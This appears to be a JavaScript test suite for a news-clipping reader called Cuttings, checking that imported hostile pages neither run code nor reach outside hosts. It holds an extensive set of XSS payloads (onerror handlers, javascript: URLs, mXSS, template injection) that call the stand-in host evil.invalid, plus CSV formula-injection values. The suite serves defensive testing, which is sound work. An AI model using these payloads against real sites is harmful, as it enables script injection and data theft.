// A page that tries everything, read in Cuttings: nothing of it runs, and not one
// request leaves the browser. What is asked for is recorded by the browser itself.

import assert from "node:assert/strict";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, test } from "node:test";

import { at, caseFile, exportAs, quiet, search, settled, show, start, until } from "./page.js";

let site;
before(async () => { site = await start(); });
after(() => site?.stop());

// What no page of ours ever asks for.
const OUT = "https://evil.invalid";
const RUN = "globalThis.ran = (globalThis.ran ?? 0) + 1; fetch('https://evil.invalid/ran')";

const story = (n) => `The zumblefish ferry of ward ${n} has taken up its service again after the winter, the harbour office said on Monday. “We are back,” Oleg Petrov said in Vienna.`;

const PAGE = `<!doctype html><html><head>
<base href="${OUT}/">
<meta http-equiv="refresh" content="0; url=${OUT}/refresh">
<meta property="og:image" content="${OUT}/og.png"><meta name="author" content="<img src=${OUT}/author onerror='${RUN}'>">
<link rel="stylesheet" href="${OUT}/style.css"><link rel="preload" as="image" href="${OUT}/preload.png"><link rel="dns-prefetch" href="${OUT}">
<link rel="icon" href="${OUT}/icon.png"><link rel="canonical" href="javascript:${RUN}">
<style>@import url(${OUT}/import.css); body { background: url(${OUT}/body.png) } @font-face { font-family: a; src: url(${OUT}/font.woff) }</style>
<script src="${OUT}/script.js"></script><script>${RUN}</script><script type="module">${RUN}</script>
<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>${RUN}</script>","author":{"name":"<script>${RUN}</script>"}}</script>
<title>&lt;script&gt;${RUN}&lt;/script&gt; Ferry runs &lt;img src=x onerror="${RUN}"&gt;</title></head>
<body onload="${RUN}" style="background-image: url(${OUT}/inline.png)">
<h1>Ferry &lt;img src=${OUT}/h1 onerror="${RUN}"&gt; runs again</h1>
<article>
<p onclick="${RUN}" onmouseover="${RUN}">${story(1)} <img src="${OUT}/a.png" srcset="${OUT}/b.png 2x" onerror="${RUN}"></p>
<p>${story(2)} <a href="javascript:${RUN}">a link</a> <a href="data:text/html,<script>${RUN}</script>" ping="${OUT}/ping">another</a></p>
<p>${story(3)} <svg onload="${RUN}"><image href="${OUT}/svg.png"/><use href="${OUT}/use.svg#a"/><script>${RUN}</script><foreignObject><img src="${OUT}/f.png"></foreignObject></svg></p>
<p>${story(4)} &lt;img src=${OUT}/text onerror="${RUN}"&gt; &lt;/script&gt;&lt;script&gt;${RUN}&lt;/script&gt; {{constructor.constructor('${RUN}')()}}</p>
<form action="${OUT}/form"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Send</button></form>
<iframe src="${OUT}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${OUT}/object"></object><embed src="${OUT}/embed">
<video src="${OUT}/video" poster="${OUT}/poster.png" autoplay></video><audio src="${OUT}/audio"></audio>
<noscript><img src="${OUT}/noscript.png"></noscript><template><img src="${OUT}/template.png"></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${OUT}/mxss onerror=${RUN}&gt;"></table></mtext></math>
<details ontoggle="${RUN}" open><summary>More</summary></details><marquee onstart="${RUN}">News</marquee>
<p>${story(5)}</p></article>
<!--[if IE]><script>${RUN}</script><![endif]--></body></html>`;

const TEXT = `Harbour <img src=${OUT}/t onerror="${RUN}"> opens\n\nBy <script>${RUN}</script> Ann Lee\n\n${story(6)} <iframe src="${OUT}/x"></iframe>\n\n</script><script>${RUN}</script> ${story(7)}\n\n<!-- ${story(8)} -->\n`;

const hostile = [
  { name: `<img src=x onerror="${RUN.slice(0, 30)}">.html`.replaceAll("/", ""), mimeType: "text/html", buffer: Buffer.from(PAGE) },
  { name: "hostile.html", mimeType: "text/html", buffer: Buffer.from(PAGE.replace("ward 1", "ward 9")) },
  { name: "hostile.txt", mimeType: "text/plain", buffer: Buffer.from(TEXT) },
];

// All that the browser asks for, by its own protocol: the page, its frames and workers.
async function recorded(page) {
  const asked = [];
  const client = await page.context().newCDPSession(page);
  await client.send("Network.enable");
  client.on("Network.requestWillBeSent", ({ request }) => asked.push(request.url));
  page.context().on("request", (request) => asked.push(request.url()));
  return () => asked.filter((url) => !url.startsWith(site.origin) && !/^(blob|data|file):/.test(url));
}

async function look(page) {
  await search(page, "zumblefish");
  for (const item of await at(page, "article-item").all()) {
    await item.getByRole("link").first().click();
    for (const view of ["Clean", "Raw", "Both"]) {
      await show(page, view);
      await quiet(page);
    }
    for (const link of await at(page, "reader").locator("a[href]").all()) {
      assert.match(await link.getAttribute("href"), /^(#|$)/);
    }
  }
  assert.equal(await page.evaluate(() => document.querySelectorAll("#app :is(script, iframe, img, object, embed, form[action], base, style, svg image)").length), 0);
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
}

test("a page that tries everything asks for nothing and runs nothing, in any view", async () => {
  const page = await site.open();
  const outside = await recorded(page);
  await at(page, "file-input").setInputFiles(hostile);
  await until("they are read", async () => (await page.getByText(/articles? (was|were) added|were added/).count()) > 0);
  await look(page);
  assert.deepEqual(outside(), []);
  await page.finish();
});

test("the watch sees what the same page does by itself", async () => {
  const page = await site.open();
  const outside = await recorded(page);
  await page.setContent(PAGE, { waitUntil: "commit" });
  await until("something is asked for", async () => outside().length > 0);
  await page.context().close();
});

test("the hosted page may ask its own origin alone", async () => {
  const page = await site.open();
  const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
  assert.match(policy, /connect-src 'self';/);
  assert.doesNotMatch(policy, /blob:/);
  await page.finish();
});

test("nor does it in a case file", async () => {
  const page = await site.open();
  await at(page, "file-input").setInputFiles(hostile);
  await until("they are read", async () => (await page.getByText(/were added/).count()) > 0);
  const file = join(mkdtempSync(join(tmpdir(), "cuttings-")), "hostile.html");
  writeFileSync(file, await caseFile(page, { name: `</title><script>${RUN}</script>` }));
  await page.finish();

  const opened = await site.open({ path: "", base: pathToFileURL(file).href, wait: false });
  const outside = await recorded(opened);
  await settled(opened);
  await look(opened);
  assert.deepEqual(outside(), []);
  await opened.finish();
});

test("exports hold it as text: no formula, no markup", async () => {
  const page = await site.open();
  const formula = "=SUM(A1:A9) opens the harbour of Vienna";
  await at(page, "file-input").setInputFiles([
    { name: "=cmd.txt", mimeType: "text/plain", buffer: Buffer.from(`${formula}\n\n+SUM(A1) is what the zumblefish ledger of the harbour office said on Monday, Oleg Petrov told them in Vienna.\n\n@import and -2+3 are what its second page says, the office of the harbour in Vienna added on Tuesday.\n`) },
    ...hostile,
  ]);
  await until("they are read", async () => (await page.getByText(/were added/).count()) > 0);
  await search(page, "zumblefish");
  const { text } = await exportAs(page, "Articles");
  // Each cell by RFC 4180.
  const cells = [...text.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map((m) => m[1]?.replaceAll('""', '"') ?? m[2]);
  assert.ok(cells.some((cell) => cell.endsWith(formula)));
  assert.deepEqual(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-[^\d.]/.test(cell)), []);
  for (const form of ["Network", "RIS", "Markdown"]) {
    const { text } = await exportAs(page, form);
    if (form === "Network") assert.equal(await page.evaluate((text) => new DOMParser().parseFromString(text, "application/xml").querySelector("parsererror")?.textContent, text), undefined);
    // Nothing that a reader of Markdown would take for markup.
    if (form === "Markdown") assert.doesNotMatch(text, /(^|[^\\])<(img|script|iframe)/i);
  }
  await page.finish();
});
